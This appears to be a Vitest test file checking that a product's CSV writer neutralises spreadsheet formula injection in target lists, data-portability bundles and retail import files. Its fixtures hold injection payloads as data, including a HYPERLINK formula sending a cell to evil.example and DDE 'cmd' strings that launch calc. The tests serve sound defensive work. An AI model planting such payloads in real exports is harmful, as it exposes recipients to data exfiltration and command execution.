import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLines, spreadsheetSafe } from '../../src/csv/csv-writer.ts';
import { prepareOnlineRetail } from '../../src/datasets/online-retail.ts';
import type { DatabaseHandle } from '../../src/db/engine.ts';
import { writePortabilityBundle } from '../../src/rights/portability.ts';
import { accessReport } from '../../src/rights/rights.service.ts';
import { TARGET_CSV_COLUMNS, targetCsvRows } from '../../src/targeting/target-list.csv.ts';
import type { TargetMember } from '../../src/targeting/target-list.service.ts';
import { csvRecords, csvRows } from '../helpers/csv.ts';
import { createTestDatabase } from '../helpers/database.ts';
import { csv, tempFolder } from '../helpers/files.ts';
import { importFile, NOW } from '../imports/import.fixtures.ts';

const files = tempFolder();
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1)',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];

/** The cells of a CSV text, as a spreadsheet or any CSV reader splits them. */
const cells = (text: string | Buffer) => csvRows(text);

describe('the one CSV writer', () => {
  it('prefixes every cell that a spreadsheet would read as a formula with a single quote', () => {
    expect(FORMULAS.map(spreadsheetSafe)).toEqual(FORMULAS.map((formula) => `'${formula}`));
    expect(cells(csvLines([FORMULAS]))[0]).toEqual(FORMULAS.map((formula) => `'${formula}`));
  });

  it('leaves numbers as numbers: typed ones, negative ones, and text that is a number as a whole (E.164 phones)', () => {
    const row = [
      -0.25,
      12,
      -3,
      1e-7,
      '-0.25',
      '+33612345678',
      '-12',
      'a=b',
      'Hélène',
      null,
      undefined,
      true,
      new Date('2026-01-02T03:04:05Z'),
      ['x', 1],
    ];
    expect(cells(csvLines([row]))[0]).toEqual([
      '-0.25',
      '12',
      '-3',
      '1e-7',
      '-0.25',
      '+33612345678',
      '-12',
      'a=b',
      'Hélène',
      '',
      '',
      'true',
      '2026-01-02T03:04:05.000Z',
      '["x",1]',
    ]);
  });
});

describe('every CSV the product writes goes through it', () => {
  it("target lists: ids and contact values from the base are neutralised, the product's figures are not", () => {
    const member = (position: number, externalId: string, contact: string): TargetMember => ({
      position,
      externalId,
      contact,
      score: 0.75,
      percentile: 99.5,
      rank: position,
      reasons: [{ feature: '=evil()' } as TargetMember['reasons'][number]],
      consentEventIds: [7, 8],
    });
    const rows = [
      { isHoldout: false, member: member(1, '=HYPERLINK("http://evil.example")', '+33612345678') },
      { isHoldout: false, member: member(2, 'C2', '@SUM(1+1)') },
      { isHoldout: true, member: member(3, '-2+3', 'holdout@example.com') },
    ];
    const lines = cells(`${TARGET_CSV_COLUMNS.join(',')}\n${targetCsvRows(rows)}`);
    expect(lines.slice(1).map((line) => line.slice(0, 8))).toEqual([
      ['contact', '1', `'=HYPERLINK("http://evil.example")`, '+33612345678', '0.75', '99.5', '1', "'=evil()"],
      ['contact', '2', 'C2', "'@SUM(1+1)", '0.75', '99.5', '2', "'=evil()"],
      ['holdout', '3', "'-2+3", 'holdout@example.com', '0.75', '99.5', '3', "'=evil()"],
    ]);
  });

  describe('the portability bundle', () => {
    let database: DatabaseHandle;
    beforeAll(async () => {
      database = await createTestDatabase();
      await importFile(
        database,
        'products',
        files.write('products.csv', csv('sku,name,category', 'SKU-1,"=HYPERLINK(""http://evil.example"")",garden')),
      );
      await importFile(
        database,
        'contacts',
        files.write(
          'contacts.csv',
          csv(
            'external_id,email,phone,first_name,last_name,country,created_at',
            'P1,p1@example.com,06 39 98 00 01,@SUM(1+1),+cmd|x,FR,2024-01-02',
          ),
        ),
      );
      await importFile(
        database,
        'purchases',
        files.write('purchases.csv', csv('order_id,external_id,sku,quantity,unit_price,purchased_at', '-1+1,P1,SKU-1,2,3.50,2025-01-01')),
      );
    });
    afterAll(() => database.close());

    it('neutralises names, product names and order ids typed into the base; phones and quantities stay as they are', async () => {
      const report = await accessReport(database.db, 'P1', 'test', NOW, 'portability');
      const dir = join(files.dir, 'bundle');
      writePortabilityBundle(report, dir);
      const identity = csvRecords(readFileSync(join(dir, 'identity.csv')));
      expect(identity[0]).toMatchObject({ externalId: 'P1', phone: '+33639980001', firstName: "'@SUM(1+1)", lastName: "'+cmd|x" });
      const purchases = csvRecords(readFileSync(join(dir, 'purchases.csv')));
      expect(purchases[0]).toMatchObject({
        orderId: "'-1+1",
        productName: `'=HYPERLINK("http://evil.example")`,
        quantity: '2',
        unitPrice: '3.5',
      });
    });
  });

  it('the Online Retail files prepared for import', async () => {
    const source = files.write(
      'retail.csv.gz',
      gzipSync(
        csv(
          'InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country',
          '536365,85123A,"=HYPERLINK(""http://evil.example"")",6,2010-12-01 08:26:00,2.55,17850.0,@United Kingdom',
        ),
      ),
    );
    const prepared = await prepareOnlineRetail(source, join(files.dir, 'retail'));
    expect(cells(readFileSync(prepared.products))[1]).toEqual(['85123A', `'=HYPERLINK("http://evil.example")`, 'gifts']);
    expect(cells(readFileSync(prepared.contacts))[1]).toEqual(['17850', "'@United Kingdom", '2010-12-01 08:26:00']);
  });
});
